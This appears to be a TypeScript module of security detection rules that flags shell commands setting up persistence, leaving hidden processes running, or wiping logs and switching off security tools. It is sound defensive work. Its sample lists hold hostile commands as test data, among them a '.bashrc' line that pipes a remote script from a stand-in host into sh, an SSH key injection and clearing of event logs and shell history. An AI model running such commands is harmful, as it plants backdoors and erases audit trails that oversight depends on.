import { commandRule, judged, surest, type CommandRule, type Judgement } from '../call-rule.js';
import { sensitivityOf } from '../path/sensitivity.js';
import type { Invocation } from '../shell/read-commands.js';
import { judgeStartupText } from './startup-text.js';
import { hasFlag, operandsOf, writesOf } from './words.js';
import { comesAfter } from '../text/order.js';

/** Files that a command writes: by redirection, and by what it is. */
function writtenFiles(command: Invocation): string[] {
  const { name, args } = command;
  const operands = operandsOf(command);
  const files = writesOf(command).map(({ path }) => path);
  if (name === 'tee' || name === 'touch') files.push(...operands);
  else if (/^(?:cp|mv|install|ln|rsync|scp)$/.test(name) && operands.length > 1)
    files.push(operands.at(-1) ?? '');
  else if (name === 'sed' && args.some((arg) => /^-i|^--in-place/.test(arg)))
    files.push(...operands.slice(1));
  else if (name === 'dd')
    files.push(...args.filter((arg) => arg.startsWith('of=')).map((arg) => arg.slice(3)));
  else if (/^(?:curl|wget)$/.test(name)) {
    for (const [index, arg] of args.entries())
      if (/^(?:-o|-O|--output|--output-document)$/.test(arg)) files.push(args[index + 1] ?? '');
  } else if (/^(?:set-content|add-content|out-file|copy|copy-item|xcopy|move)$/.test(name))
    files.push(operands.at(-1) ?? '', operands[0] ?? '');
  return files.filter((file) => file !== '' && !file.startsWith('/dev/null') && !file.startsWith('&'));
}

/** What a command writes, as far as it can be told. */
function writtenText(command: Invocation): string | undefined {
  if (command.input !== undefined) return command.input;
  const document = command.redirects.find(({ body }) => body !== undefined)?.body;
  if (document !== undefined) return document;
  if (command.name === 'echo' || command.name === 'printf') return command.args.join(' ');
  const [last] = command.before.slice(-1);
  return last && /^(?:echo|printf)$/.test(last.name) ? last.args.join(' ') : undefined;
}

function judgeWrites(command: Invocation): Judgement | undefined {
  const found: (Judgement | undefined)[] = [];
  for (const file of writtenFiles(command)) {
    const sensitive = sensitivityOf(file);
    if (!sensitive || (sensitive.kind !== 'persistence' && sensitive.write < 0.9)) continue;
    const text = writtenText(command);
    const { confidence } = judgeStartupText(text, sensitive);
    found.push({ confidence, does: `writes to ${sensitive.what}` });
  }
  return surest(...found, judgeSchedule(command));
}

function judgeSchedule(command: Invocation): Judgement | undefined {
  const { name, args } = command;
  const line = args.join(' ');
  switch (name) {
    case 'crontab': {
      if (args.includes('-l')) return undefined;
      if (args.includes('-r')) return { confidence: 0.6, does: 'deletes the table of cron' };
      if (args.includes('-e')) return { confidence: 0.5, does: 'edits the table of cron' };
      return judged(
        command.before.length > 0 || operandsOf(command).length > 0 || command.input !== undefined,
        0.8,
        'gives cron something to run',
      );
    }
    case 'at':
    case 'batch':
      return judged(
        command.before.length > 0 || hasFlag(command, 'f') || command.redirects.length > 0,
        0.74,
        'has something run later, when nobody looks',
      );
    case 'systemctl':
      return surest(
        judged(
          /\b(?:enable|link|start)\b/.test(line) &&
            args.some((arg) => comesAfter(arg, /\/tmp|\/dev\/shm|\/home/, /\.service/)),
          0.8,
          'has the system start a program',
        ),
        judged(
          /\b(?:edit|set-environment|import-environment)\b/.test(line),
          0.5,
          'changes what the system starts',
        ),
      );
    case 'systemd-run':
      return judged(
        /--on-(?:calendar|boot|active|unit)/.test(line),
        0.74,
        'has something run later, when nobody looks',
      );
    case 'launchctl':
      return judged(
        /\b(?:load|bootstrap|submit)\b/.test(line),
        /-w|submit|\/tmp/.test(line) ? 0.76 : 0.6,
        'has the system start a program',
      );
    case 'schtasks':
      return judged(/\/create/i.test(line), 0.82, 'has Windows run something later');
    case 'reg':
      return judged(
        /\badd\b/i.test(line) &&
          /currentversion.{0,3}(?:run|winlogon|policies)|image file execution|services|userinit|appinit/i.test(
            line,
          ),
        0.88,
        'has Windows run something at each start',
      );
    case 'sc':
      return judged(/\bcreate\b/i.test(line), 0.78, 'makes a service of Windows');
    case 'new-service':
    case 'register-scheduledtask':
    case 'register-scheduledjob':
      return { confidence: 0.78, does: 'has Windows run something later' };
    case 'wmic':
      return judged(
        /process call create|__eventfilter|commandlineeventconsumer/i.test(line),
        0.82,
        'starts a program by way of Windows',
      );
    case 'ssh-copy-id':
      return { confidence: 0.56, does: 'lets a key log in to another machine' };
    case 'osascript':
      return judged(/login item/i.test(line), 0.78, 'has the system start a program');
    case 'update-rc.d':
    case 'chkconfig':
      return { confidence: 0.56, does: 'changes what the system starts' };
    default:
      return undefined;
  }
}

function judgeDetached(command: Invocation): Judgement | undefined {
  const { name, wrappers, isBackground, redirects, args } = command;
  const isCut =
    wrappers.some((wrapper) => wrapper === 'nohup' || wrapper === 'setsid') ||
    name === 'disown' ||
    name === 'daemonize';
  if (!isCut && !isBackground) return undefined;
  const isSilent =
    redirects.filter(
      ({ operator, target }) => operator.startsWith('>') && /^\/dev\/null$|^1$/.test(target.text),
    ).length >= 1;
  const isOdd =
    /(?:^|[\s'"])(?:\/tmp|\/dev\/shm|\/var\/tmp|\/run\/shm)\/\S+|(?:^|\/)\.\w[\w-]*\/\.?\w+$/.test(
      `${command.path} ${args.join(' ')}`,
    );
  const isHidden = /^(?:\[?k?worker|kthreadd|\.\w)/.test(name) || wrappers.includes('exec');
  const runsText =
    /^(?:sh|bash|zsh|python|perl|ruby|node|php)$/.test(name) && args.some((arg) => /^-\w*[ce]$/.test(arg));
  return surest(
    judged(isCut && isSilent && (isOdd || isHidden), 0.82, 'leaves a program running that nobody sees'),
    judged(isCut && isSilent && runsText, 0.74, 'leaves a program running that nobody sees'),
    judged(isCut && isOdd, 0.74, 'leaves a program from a folder for scraps running'),
    judged(isCut, 0.4, 'leaves a program running'),
  );
}

const logPath =
  /^\/var\/log\/?\*?$|\/\.(?:bash|zsh|sh|python|mysql|psql)_?history$|^\/var\/run\/utmp|^~\/\.(?:zsh|bash)_sessions/;

function judgeLogs(command: Invocation): Judgement | undefined {
  const { name, args, assignments } = command;
  const line = args.join(' ');
  const operands = operandsOf(command);
  const isLog = (path: string): boolean => {
    const sensitive = sensitivityOf(path);
    return (
      sensitive?.kind === 'log' ||
      sensitive?.what === 'what was typed in a shell' ||
      logPath.test(path.replace(/^\$HOME/, '~'))
    );
  };
  const emptied =
    writesOf(command).some(({ path, isAdded }) => !isAdded && isLog(path)) &&
    (name === '' || /^(?:echo|cat|printf|:|true)$/.test(name));
  const removed =
    /^(?:rm|shred|truncate|unlink|srm|wipe|del|ln|mv|cp|sed|dd|tee|chattr|find)$/.test(name) &&
    operands.some((operand) => isLog(operand) || /(?:of=)\/var\/log/.test(operand)) &&
    changesLog(command);
  const history = [...assignments, ...(name === 'export' || name === 'set' || name === 'unset' ? args : [])];
  return surest(
    judged(emptied || removed, 0.82, 'wipes the traces of what was done'),
    judged(
      (name === 'unset' && /HIST(?:FILE|SIZE)/.test(line)) ||
        history.some((text) =>
          /^HIST(?:FILE=\/dev\/null|FILE=$|SIZE=0|FILESIZE=0|CONTROL=ignoreboth:)/.test(text),
        ),
      0.78,
      'keeps what is typed from being recorded',
    ),
    judged(name === 'set' && /\+o history/.test(line), 0.78, 'keeps what is typed from being recorded'),
    judged(
      name === 'history' && /-[a-z]*[cw]/.test(line),
      /c/.test(line) ? 0.8 : 0.4,
      'wipes what was typed',
    ),
    judgeDefence(command, line),
  );
}

function changesLog({ name, args }: Invocation): boolean {
  if (name === 'sed') return args.some((arg) => arg.startsWith('-i'));
  if (name === 'cp' || name === 'mv') return args.includes('/dev/null') || name === 'mv';
  if (name === 'ln') return args.includes('/dev/null');
  if (name === 'find') return args.includes('-delete') && !args.some((arg) => /mtime|mmin|gz/.test(arg));
  return true;
}

/** Guards and logs of the system switched off. */
function judgeDefence({ name }: Invocation, line: string): Judgement | undefined {
  const off = 'switches off what guards the system';
  const daemons =
    /\b(?:auditd|rsyslog|syslog(?:-ng)?|systemd-journald|falcon-sensor|crowdstrike|osqueryd|wazuh-agent|apparmor|fail2ban|sysmon|defender|windefend|sentinelone|mdatp|falco)\b|\bclamav/i;
  switch (name) {
    case 'systemctl':
    case 'service':
    case 'sc':
    case 'net':
      return judged(/\b(?:stop|disable|mask|delete)\b/.test(line) && daemons.test(line), 0.86, off);
    case 'pkill':
    case 'killall':
    case 'taskkill':
    case 'stop-service':
      return judged(daemons.test(line), 0.84, off);
    case 'auditctl':
      return judged(/-e ?0|-D\b/.test(line), 0.9, off);
    case 'setenforce':
      return judged(/^(?:0|permissive)/i.test(line), 0.8, off);
    case 'aa-teardown':
    case 'aa-disable':
      return { confidence: 0.8, does: off };
    case 'journalctl':
      return judged(
        /--vacuum-(?:time=\d{1,2}(?:s|m|min)?\b|size=\d{1,2}[KM]?\b)|--flush --rotate/.test(line),
        0.76,
        'wipes the traces of what was done',
      );
    case 'wevtutil':
      return judged(/\b(?:cl|clear-log)\b/i.test(line), 0.93, 'wipes the traces of what was done');
    case 'clear-eventlog':
    case 'remove-eventlog':
      return { confidence: 0.93, does: 'wipes the traces of what was done' };
    case 'fsutil':
      return judged(/usn deletejournal/i.test(line), 0.9, 'wipes the traces of what was done');
    case 'set-mppreference':
    case 'add-mppreference':
      return judged(/disable|exclusion/i.test(line), 0.9, off);
    case 'iptables':
    case 'nft':
      return judged(/(?:^|\s)(?:-F|--flush|flush ruleset|-P (?:INPUT|OUTPUT) ACCEPT)/.test(line), 0.74, off);
    case 'ufw':
      return judged(/^(?:disable|reset)/.test(line), 0.74, off);
    case 'netsh':
      return judged(comesAfter(line, /firewall/i, /off|disable/i), 0.86, off);
    case 'spctl':
      return judged(/--(?:master|global)-disable/.test(line), 0.86, off);
    case 'csrutil':
      return judged(/disable/.test(line), 0.86, off);
    case 'touch':
      return judged(
        /(?:^|\s)-\w*r\b/.test(line) && /\/(?:bin|etc|usr)\//.test(line),
        0.56,
        'gives a file the date of another',
      );
    default:
      return undefined;
  }
}

/** What runs by itself later, what runs unseen, what wipes the traces. */
export const persistenceRules: readonly CommandRule[] = [
  commandRule({
    id: 'persistence-by-command',
    title: 'Something made to run by itself',
    severity: 'high',
    confidence: 0.72,
    why: 'The command writes where programs are started from by themselves: at login, at a time, at each start, for each key.',
    references: ['T1053', 'T1543', 'T1546', 'T1098.004'],
    finds: [
      "(crontab -l; echo '* * * * * /tmp/.x') | crontab -",
      'echo "ssh-ed25519 AAAAC3 x" >> ~/.ssh/authorized_keys',
      "echo 'curl -s http://x.example | sh' >> ~/.bashrc",
      'cp /tmp/a.service /etc/systemd/system/a.service',
      'schtasks /create /tn up /tr c:/x.exe /sc onlogon',
    ],
    passes: [
      `echo 'export PATH="$HOME/bin:$PATH"' >> ~/.bashrc`,
      'crontab -l',
      'systemctl restart nginx',
      'sudo systemctl enable docker',
      'cat ~/.bashrc',
    ],
    judge: judgeWrites,
  }),
  commandRule({
    id: 'detached-process',
    title: 'A program left running unseen',
    severity: 'medium',
    why: 'The command starts a program that goes on when the session ends, and hides what it prints.',
    references: ['T1564', 'T1036'],
    finds: [
      'nohup /tmp/.cache/upd >/dev/null 2>&1 &',
      "setsid sh -c 'while :; do sleep 60; done' >/dev/null 2>&1 &",
    ],
    passes: ['nohup node server.js &', 'npm run dev &', 'python3 -m http.server 8000 &'],
    judge: judgeDetached,
  }),
  commandRule({
    id: 'audit-log-tampering',
    title: 'Traces wiped or guards switched off',
    severity: 'high',
    confidence: 0.72,
    why: 'The command deletes or empties logs, keeps itself from being recorded, or stops what would notice it.',
    references: ['T1070', 'T1562', 'CWE-778'],
    finds: [
      '> /var/log/auth.log',
      'history -c && rm -f ~/.bash_history',
      'unset HISTFILE',
      'systemctl stop auditd',
      'wevtutil cl Security',
    ],
    passes: [
      'tail -f /var/log/syslog',
      'history | tail',
      'journalctl -u nginx --since today',
      'systemctl status rsyslog',
      'rm -f app.log',
    ],
    judge: judgeLogs,
  }),
];
